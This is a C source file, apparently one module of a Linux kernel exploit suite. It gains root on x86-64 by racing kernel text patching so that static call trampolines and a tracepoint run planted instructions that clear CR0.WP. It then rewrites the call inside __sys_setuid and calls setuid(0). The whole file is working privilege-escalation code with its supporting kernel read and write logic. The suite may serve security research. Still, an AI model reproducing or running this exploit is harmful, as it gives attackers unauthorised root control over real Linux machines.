// SPDX-License-Identifier: GPL-2.0-only
/*
 * A trampoline of a static call is known by three bytes behind its jump. What a static call
 * calls is data, so a jump is made to have these three bytes itself: there seems to be a
 * trampoline four bytes ahead of a genuine one. What is "called" there are four bytes of
 * instructions. A tracepoint that calls them clears CR0.WP for its user, who then writes to
 * the kernel's text by a plain store.
 */
#include <linux/perf_event.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define FUNCTION	"arch_static_call_transform"
#define LENGTH		0x9c
#define FIRST		"__SCT__x86_pmu_handle_irq"
#define SECOND		"__SCT__x86_pmu_disable_all"
#define NAME		"itimer_state"
#define EVENT_TYPE	48
#define FUNCS_AT_MOST	128
#define JUMP_SIZE	5
#define LAST_ID		4000
#define TRIES		12
#define PAUSE		20000
#define PATIENCE	200
#define TEXT_SIZE	(64UL << 20)
#define CALLER		"__sys_setuid"
#define CALLER_SIZE	0x100
#define CALLED		"ns_capable_setid"
#define YES		"always_delete_dentry"	/* returns 1 */
#define CALL		0xe8

#define CR0		0x80050033UL
#define CR0_WITHOUT_WP	0x80040033UL

static struct {
	volatile int id, error;
} *opened;

static uint64_t text;

/* What is to be patched, and how it has to look. */
static struct {
	uint64_t site, trampoline, called;
} way;

static int count_events(int id)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_TRACEPOINT, .size = sizeof(attr), .config = id,
		.exclude_kernel = 1, .exclude_hv = 1,
	};

	return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

static void use_tracepoint(void)
{
	while (++opened->id < LAST_ID) {
		if (count_events(opened->id) >= 0)
			return;
		opened->error = errno;
	}
}

static bool is_text(uint64_t word)
{
	return word - text < TEXT_SIZE;
}

/* As in static_call_held.c. */
static bool change_way(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	uint64_t mutex = ksymbol("text_mutex");
	int i;

	(void)change;
	if (words[-2] && !is_text(words[-2]))
		return false;
	for (i = -HELD_BELOW; i < -5; i++) {
		if (words[i] != mutex || (!words[i + 2] == !words[i + 3]) ||
		    !is_text(words[i + 2] | words[i + 3]))
			continue;
		kwrite64(addr - 2 * 8, way.called);
		kwrite64(addr + (i + 1) * 8, 0);
		kwrite64(addr + (i + 2) * 8, way.site);
		kwrite64(addr + (i + 3) * 8, way.trampoline);
		return true;
	}
	return false;
}

static bool is_over(const struct held_change *change)
{
	(void)change;
	return held_is_done();
}

static bool has(uint64_t at, int32_t disp)
{
	unsigned char code[JUMP_SIZE] = { 0 };

	kread(at, code, sizeof(code));
	return !memcmp(code + 1, &disp, sizeof(disp));
}

static void show(uint64_t at)
{
	unsigned char code[16] = { 0 };
	int i;

	kread(at, code, sizeof(code));
	fprintf(stderr, "# 0x%lx:", at);
	for (i = 0; i < (int)sizeof(code); i++)
		fprintf(stderr, " %02x", code[i]);
	fprintf(stderr, "\n");
}

static bool patch(uint64_t at, bool is_site, int32_t disp)
{
	const struct held_change change = { FUNCTION, LENGTH, change_way, is_over, NULL };
	struct held_lock lock = held_mutex();
	int i, n;

	way.site = is_site ? at : 0;
	way.trampoline = is_site ? 0 : at;
	way.called = at + JUMP_SIZE + disp;
	for (i = 0; i < TRIES && !has(at, disp); i++) {
		held_act(&lock, &change);
		for (n = 0; n < PATIENCE && !held_is_done(); n++)
			usleep(PAUSE);
		fprintf(stderr, "# id %d, error %d, patched: %d\n", opened->id, opened->error,
			has(at, disp));
		if (!held_is_done())
			break;
	}
	show(at);
	return has(at, disp);
}

/* The kernel's list says where the tracepoint calls. */
static uint64_t find_site(void)
{
	uint64_t at = ksymbol("__start_static_call_sites"), end = ksymbol("__stop_static_call_sites");
	uint64_t key = ksymbol("__SCK__tp_func_" NAME);
	int32_t site[2];

	for (; at && at < end; at += sizeof(site)) {
		kread(at, site, sizeof(site));
		if (((at + 4 + site[1]) & ~3UL) == key)
			return at + site[0];
	}
	return 0;
}

/* What the tracepoint gives to its only function. */
static uint64_t find_data(uint64_t event)
{
	uint64_t at = ksymbol("__tracepoint_" NAME), funcs;
	int i;

	for (i = 0; at && i < FUNCS_AT_MOST; i += 8) {
		funcs = kread64(at + i);
		if (funcs && !(funcs & 7) && (int64_t)funcs < 0 && !is_text(funcs) &&
		    is_text(kread64(funcs)) && kread64(funcs + 8) == event)
			return funcs + 8;
	}
	return 0;
}

static void set_timer(void)
{
	struct itimerval timer = { { 0, 0 }, { 1000, 0 } };

	setitimer(ITIMER_REAL, &timer, NULL);
}

static uint64_t find_call(void)
{
	unsigned char code[CALLER_SIZE];
	uint64_t caller = ksymbol(CALLER), target = ksymbol(CALLED);
	int32_t rel;
	int i;

	if (!caller || !target || kread(caller, code, sizeof(code)))
		return 0;
	for (i = 0; i + JUMP_SIZE <= CALLER_SIZE; i++) {
		memcpy(&rel, code + i + 1, sizeof(rel));
		if (code[i] == CALL && caller + i + JUMP_SIZE + rel == target)
			return caller + i;
	}
	return 0;
}

/* Where the instructions are, the tracepoint calls. */
static enum outcome become_root(uint64_t data)
{
	uint64_t call = find_call(), yes = ksymbol(YES), no = ksymbol(CALLED);
	int32_t to_yes = yes - call - JUMP_SIZE, to_no = no - call - JUMP_SIZE;
	int uid = getuid(), stored, err;

	kwrite64(data, CR0_WITHOUT_WP);
	set_timer();
	stored = kwrite(call + 1, &to_yes, sizeof(to_yes));
	err = setuid(0);
	set_timer();
	if (!stored)
		kwrite(call + 1, &to_no, sizeof(to_no));
	kwrite64(data, CR0);
	set_timer();
	if (stored || err || getuid())
		return lost("the trampoline was made, the store gave %d, setuid(0) %d", stored, err);
	return won("instructions in a jump of a trampoline cleared CR0.WP; a store to text: setuid(0) by uid=%d gave uid=%d",
		   uid, getuid());
}

/* The last byte is a jump; the first three are what makes a trampoline. */
#define JUMP		((int32_t)0xe9000000)
#define MARK		((int32_t)0x00ccb90f)
#define CODE		((int32_t)0xc3c7220f)	/* mov %rdi,%cr0; ret */

static bool make_beside(uint64_t first)
{
	return patch(first, false, JUMP) && patch(first + 8, false, MARK) &&
	       patch(first + 4, false, CODE);
}

static enum outcome run_code(bool beside)
{
	uint64_t first = ksymbol(FIRST), second = ksymbol(SECOND), site, data, event, code;
	enum outcome outcome;
	int fd;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	opened = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	text = ksymbol("_text") ?: ksymbol("_stext");
	site = find_site();
	event = ksymbol("event_" NAME);
	if (!text || !site || !event || !first || second != first + 8)
		return broken("no such call: %d %d %d 0x%lx 0x%lx", !!text, !!site, !!event,
			      first, second);
	held_start(use_tracepoint);
	fd = count_events((int)kread64(event + EVENT_TYPE));
	data = find_data(event);
	code = beside ? first + 5 : first + 1;
	if (fd < 0 || !data)
		outcome = broken("nobody counts " NAME ": %d %d", fd, !!data);
	else if (beside ? !make_beside(first) : !patch(first, false, CODE))
		outcome = lost("the kernel patched its own trampolines only (tracepoint %d, error %d)",
			       opened->id, opened->error);
	else if (!patch(site, true, code - site - JUMP_SIZE))
		outcome = lost("text has the instructions; the tracepoint does not call them");
	else
		outcome = become_root(data);
	held_stop();
	return outcome;
}

enum outcome call_beside(void)
{
	return run_code(true);
}

enum outcome call_inside(void)
{
	return run_code(false);
}
#else
enum outcome call_beside(void)
{
	return skipped("x86-64 only");
}

enum outcome call_inside(void)
{
	return skipped("x86-64 only");
}
#endif
